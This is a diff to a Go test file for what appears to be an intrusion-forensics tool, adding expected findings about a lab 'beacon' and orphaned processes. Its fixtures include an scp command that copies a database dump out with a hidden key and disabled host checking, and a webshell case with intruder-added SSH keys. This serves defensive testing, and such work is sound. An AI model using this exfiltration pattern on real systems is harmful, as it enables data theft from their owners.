@@ -69,6 +69,11 @@ func TestLabClaims(t *testing.T) {
 			[]string{
 				// /var/tmp/.n.sql is scp's local source file, no account
 				`"what":"/var/tmp/.n.sql","detail":"the target of a login attempt`,
+				// the beacon's python3 and base64 have ppid=1 (their
+				// subshell exited): init is every orphan's parent, not the
+				// plant's fork, so sshd's later motd uname[12950] (a
+				// recorded sshd → sh → run-parts chain) is no detached job
+				"a detached job's process runs a command (inferred",
 				"/var/tmp/.nk — used by `scp -q -i /var/tmp/.nk -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null /var/tmp/.n.sql labremote@127.0.0.1:drop/news-db.sql` by scp[12937] at 18:23:14 UTC; no record shows"}},
 		{"webshell-variant",
 			[]string{`"kind":"key","what":"/home/webapp/.ssh/authorized_keys","detail":"written by dash[21588] at 14:01:17 UTC: remove the keys the intruder added"`},
